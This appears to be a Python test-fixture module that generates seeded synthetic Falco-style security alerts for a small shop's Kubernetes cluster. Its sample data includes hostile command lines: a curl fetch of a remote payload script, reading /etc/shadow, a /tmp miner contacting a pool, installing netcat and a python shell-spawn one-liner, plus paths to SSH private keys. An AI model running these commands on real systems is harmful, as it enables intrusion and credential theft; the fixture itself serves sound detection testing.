"""Alerts as sensors send them: a small shop's cluster on an ordinary day, the same for the same seed."""

from __future__ import annotations

import random
import time
import uuid as uuids
from collections.abc import Iterator
from typing import Any

from falcon_hub import alerts
from falcon_rules import times

# rule, priority, tags, what is printed, how often
_RULES = [
    ("Shell with a terminal in a container", "Notice", "container shell mitre_execution T1059", "shell", 9),
    (
        "Credential file read by an unusual program",
        "Warning",
        "host container filesystem mitre_credential_access T1555",
        "read",
        7,
    ),
    ("Program started from a temporary directory", "Critical", "container process mitre_execution T1204", "exec", 2),
    ("Unexpected connection to the API server", "Notice", "network k8s mitre_discovery T1565", "connect", 12),
    ("Package manager run in a container", "Error", "container process mitre_persistence T1505", "exec", 4),
    ("Log file truncated", "Warning", "host filesystem mitre_defense_evasion T1070", "read", 4),
    (
        "Kernel module loaded from a container",
        "Emergency",
        "container kernel mitre_privilege_escalation T1547",
        "exec",
        0.15,
    ),
    ("Reverse shell", "Alert", "container network mitre_execution T1059.004", "connect", 0.3),
    ("Write below a binary directory", "Error", "host container filesystem mitre_persistence T1543", "read", 3),
    ("Time zone file changed", "Informational", "host filesystem", "read", 5),
    ("Sensor took longer than usual", "Debug", "falcon", "read", 3),
]
# namespace, deployment, image
_WORKLOADS = [
    ("shop", "web", "docker.io/library/nginx", 8),
    ("shop", "checkout", "registry.example.com/shop/checkout", 6),
    ("shop", "search", "docker.io/opensearchproject/opensearch", 3),
    ("payments", "ledger", "registry.example.com/payments/ledger", 4),
    ("monitoring", "grafana", "docker.io/grafana/grafana", 2),
    ("kube-system", "coredns", "registry.k8s.io/coredns/coredns", 2),
    (None, None, None, 4),
]
_PROGRAMS = [
    ("bash", "/usr/bin/bash", "bash -i", "runc"),
    ("cat", "/usr/bin/cat", "cat /etc/shadow", "bash"),
    ("curl", "/usr/bin/curl", "curl -fsSL https://198.51.100.7/payload.sh", "sh"),
    ("apt-get", "/usr/bin/apt-get", "apt-get install -y netcat-openbsd", "sh"),
    ("kworkerd", "/tmp/.x/kworkerd", "/tmp/.x/kworkerd --pool 203.0.113.9:3333", "sh"),
    ("python3", "/usr/bin/python3.11", "python3 -c 'import pty; pty.spawn(\"/bin/sh\")'", "gunicorn"),
]
_FILES = ["/etc/shadow", "/root/.ssh/id_ed25519", "/var/log/auth.log", "/etc/localtime", "/usr/bin/ssh"]


def document(number: int, moment_ns: int, chance: random.Random, **members: Any) -> dict[str, Any]:
    """Falco's JSON. members: replace what would be drawn; `output_fields` are added."""
    rule, priority, tags, kind, _ = chance.choices(_RULES, [each[-1] for each in _RULES])[0]
    namespace, deployment, image, _ = chance.choices(_WORKLOADS, [each[-1] for each in _WORKLOADS])[0]
    name, path, command, parent = chance.choice(_PROGRAMS)
    host = f"node-{chance.randint(1, 6)}.example.com"
    fields: dict[str, Any] = {
        "evt.time": moment_ns,
        "proc.name": name,
        "proc.exepath": path,
        "proc.cmdline": command,
        "proc.pname": parent,
        "proc.pid": 1000 + number % 30_000,
        "proc.tty": 0,
        "user.name": chance.choice(["root", "www-data", "app"]),
        "user.uid": chance.choice([0, 33, 1000]),
    }
    what = {"shell": f"terminal={34816 + number % 4}", "exec": f"exe={path}"}.get(kind, "")
    if kind == "read":
        fields["fd.name"] = chance.choice(_FILES)
        what = f"file={fields['fd.name']}"
    elif kind == "connect":
        fields["fd.name"] = (
            f"10.1.{chance.randint(0, 9)}.{chance.randint(2, 250)}:{chance.randint(32768, 60999)}->10.96.0.1:443"
        )
        fields |= {"fd.sip": "10.96.0.1", "fd.sport": 443}
        what = f"connection={fields['fd.name']}"
    if namespace is not None:
        fields |= {
            "container.id": f"{chance.getrandbits(48):012x}",
            "container.name": deployment,
            "container.image.repository": image,
            "k8s.ns.name": namespace,
            "k8s.pod.name": f"{deployment}-{_suffix(deployment or '', chance)}",
        }
    else:
        fields["container.id"] = "host"
    who = f"user={fields['user.name']} process={name} parent={parent} command={command}"
    made = {
        "uuid": str(uuids.UUID(int=chance.getrandbits(128), version=4)),
        "time": times.rfc3339(moment_ns),
        "rule": rule,
        "priority": priority,
        "source": "syscall",
        "hostname": host,
        "tags": tags.split(),
        "output": f"{rule} | {who} {what}".rstrip(),
    }
    extra = members.pop("output_fields", {})
    return made | members | {"output_fields": fields | extra}


def _suffix(deployment: str, chance: random.Random) -> str:
    replica = chance.randint(0, 2)
    drawn = random.Random(f"{deployment}-{replica}")
    return "7d4b9c6f5-" + "".join(drawn.choices("bcdfghjklmnpqrstvwxz2456789", k=5))


def several(count: int, hours: float = 20.0, seed: int = 1, now_ns: int | None = None) -> Iterator[alerts.Alert]:
    """Spread over the last `hours`, oldest first, with quiet times and a burst."""
    chance = random.Random(seed)
    now = time.time_ns() if now_ns is None else now_ns
    span = int(hours * 3600e9)
    moments = sorted(
        now - int(span * (chance.betavariate(2, 9) if chance.random() < 0.35 else chance.random()))
        for _ in range(count)
    )
    for number, moment in enumerate(moments):
        yield alerts.parse(document(number, moment, chance))


def one(seed: int = 1, ago_seconds: float = 60.0, **members: Any) -> alerts.Alert:
    """A single alert with chosen members (`output_fields` are added to the drawn ones)."""
    moment = time.time_ns() - int(ago_seconds * 1e9)
    return alerts.parse(document(seed, moment, random.Random(seed), **members))


def sink(**members: Any) -> dict[str, Any]:
    """What is told of a sink, with chosen members."""
    usual = dict.fromkeys(("delivered", "waiting", "dead", "failures"), 0)
    unknown = dict.fromkeys(("last_success", "last_error", "last_error_at"))
    return {"name": "security-chat", "type": "slack", "state": "ok"} | usual | unknown | members
